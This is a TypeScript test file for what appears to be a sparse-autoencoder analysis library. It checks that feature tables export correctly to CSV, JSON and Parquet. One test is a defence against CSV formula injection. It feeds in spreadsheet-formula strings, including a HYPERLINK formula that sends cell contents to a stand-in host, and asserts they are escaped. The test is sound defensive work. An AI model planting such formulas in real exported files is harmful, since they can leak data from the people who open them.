import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { collect } from "../../src/adapters/collect";
import { exportTable } from "../../src/adapters/exports";
import { dataFrame } from "../../src/adapters/table";
import { DiskError, OptionError } from "../../src/core/errors";
import { shortest, typeOfValues } from "../../src/core/tablefile";
import { packageRoot } from "../../src/adapters/package";
import { synthetic } from "./synthetic";

const root = mkdtempSync(join(tmpdir(), "saelab-exports-"));
after(() => rmSync(root, { recursive: true, force: true }));

/** RFC 4180, read by its own rules. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end !== ",") rows.push([]);
  }
  return rows.slice(0, -1);
}

const readParquet = async (file: string): Promise<{ rows: Record<string, unknown>[]; schema: { name: string; type?: string; converted_type?: string }[] }> => {
  const { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } = await import("hyparquet");
  const buffer = await asyncBufferFromFile(file);
  return { rows: await parquetReadObjects({ file: buffer }), schema: (await parquetMetadataAsync(buffer)).schema };
};

test("a family's table as CSV, JSON and Parquet: the same values, typed", async () => {
  const { store, sae } = synthetic({ documents: 8 });
  const features = await collect(store, sae, { folder: join(root, "family") });
  const auroc = new Float32Array(features.count).fill(NaN);
  auroc[0] = 1; // by its values alone a whole number
  auroc[1] = 0.7;
  await features.setColumn("AUROC backtracking", auroc);
  await features.setColumn("label", { 1: 'says "wait",\r\nor <b>', 2: "日本 é \ud800" });
  const [csv, json, parquet] = ["csv", "json", "parquet"].map((ending) => join(root, `table.${ending}`));
  for (const file of [csv, json, parquet]) await exportTable(features, file);

  const table = features.table();
  const objects = JSON.parse(readFileSync(json, "utf8")) as Record<string, unknown>[];
  const { rows, schema } = await readParquet(parquet);
  const [header, ...lines] = readCsv(readFileSync(csv, "utf8"));
  assert.deepEqual(header, table.columns);
  assert.deepEqual([lines.length, objects.length, rows.length], [features.count, features.count, features.count]);
  (table.values as (number | string)[][]).forEach((row, f) => table.columns.forEach((name, c) => {
    const empty = row[c] === "" || Number.isNaN(row[c]);
    const want = empty ? null : typeof row[c] === "string" ? row[c].toWellFormed() : row[c];
    const same = (got: unknown): unknown => (typeof got === "number" && name !== "density" ? Math.fround(got) : got);
    assert.deepEqual(same(objects[f][name]), want, `${name} of ${f}`);
    assert.deepEqual(same(rows[f][name]), want, `${name} of ${f}`);
    assert.deepEqual(empty ? lines[f][c] : typeof want === "number" ? same(Number(lines[f][c])) : lines[f][c], empty ? "" : want, `${name} of ${f}`);
  }));
  const types = Object.fromEntries(schema.slice(1).map(({ name, type, converted_type: more }) => [name, more ?? type]));
  assert.deepEqual(types, { latent: "INT32", density: "DOUBLE", mean: "FLOAT", max: "FLOAT", entropy: "FLOAT", distinct: "INT32", tokens: "UTF8", "AUROC backtracking": "FLOAT", label: "UTF8" });
  assert.deepEqual(readdirSync(root).sort(), ["family", "table.csv", "table.json", "table.parquet"]);
  features.close();
});

test("any DataFrame is written, its types taken from its values", async () => {
  const frame = dataFrame([[1, 0.5, "a"], [2, 1e-300, ""], [3, 0.1, "c,d"]], ["n", "x", "t"]);
  const file = join(root, "frame.parquet");
  await exportTable(frame, file);
  const { rows, schema } = await readParquet(file);
  assert.deepEqual(rows, [{ n: 1, x: 0.5, t: "a" }, { n: 2, x: 1e-300, t: "" }, { n: 3, x: 0.1, t: "c,d" }]);
  assert.deepEqual(schema.slice(1).map(({ type }) => type), ["INT32", "DOUBLE", "BYTE_ARRAY"]);
  await exportTable(frame, join(root, "frame.csv"));
  assert.equal(readFileSync(join(root, "frame.csv"), "utf8"), 'n,x,t\r\n1,0.5,a\r\n2,1e-300,\r\n3,0.1,"c,d"\r\n');
});

test("a token or a label that a spreadsheet would run is a text in CSV, and as it is elsewhere", async () => {
  const texts = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "a = b", "'"];
  const frame = dataFrame(texts.map((text, i) => [-i - 1, text]), ["n", "=t"]);
  for (const ending of ["csv", "json"]) await exportTable(frame, join(root, `formulas.${ending}`));
  const [header, ...lines] = readCsv(readFileSync(join(root, "formulas.csv"), "utf8"));
  assert.deepEqual(header, ["n", "'=t"]);
  assert.deepEqual(lines.map(([n]) => n), texts.map((_, i) => `${-i - 1}`)); // numbers are numbers
  assert.deepEqual(lines.map(([, text]) => text), texts.map((text, i) => (i < 6 ? `'${text}` : text)));
  assert.deepEqual((JSON.parse(readFileSync(join(root, "formulas.json"), "utf8")) as Record<string, string>[]).map((row) => row["=t"]), texts);
});

test("another ending or a folder that is not there: what to do, and nothing half-written", async () => {
  const frame = dataFrame([[1]], ["n"]);
  await assert.rejects(exportTable(frame, join(root, "table.xlsx")), (error: Error) => error instanceof OptionError && /\.csv, \.json or \.parquet/.test(error.message));
  await assert.rejects(exportTable(frame, join(root, "none", "table.csv")), DiskError);
  assert.ok(readdirSync(root).every((name) => !name.endsWith(".part")));
});

test("types of values; the shortest digits that are the same float32", () => {
  assert.deepEqual(
    [[1, 2, NaN], [0.5, 1], [0.1, 1], [2 ** 31], [true, null], ["a", 1], [], [Infinity]].map(typeOfValues),
    ["integer", "float32", "float64", "float32", "boolean", "text", "float32", "float32"]);
  let state = 1;
  for (let i = 0; i < 20_000; i++) {
    state = (Math.imul(state, 1664525) + 1013904223) | 0;
    const value = new Float32Array(Int32Array.of(state).buffer)[0];
    if (Number.isNaN(value)) continue;
    assert.equal(Math.fround(shortest(value)), value);
    assert.ok(String(shortest(value)).length <= String(value).length);
  }
  assert.equal(shortest(Math.fround(0.1)), 0.1);
});

test("Parquet writing loads without a word on stderr", () => {
  const program = `require(${JSON.stringify(join(packageRoot, "build/src/adapters/exports.js"))}).exportTable({ columns: ["n"], values: [[1]] }, ${JSON.stringify(join(root, "child.parquet"))})`;
  const { status, stderr } = spawnSync(process.execPath, ["-e", program], { encoding: "utf8" });
  assert.deepEqual([status, stderr], [0, ""]);
});
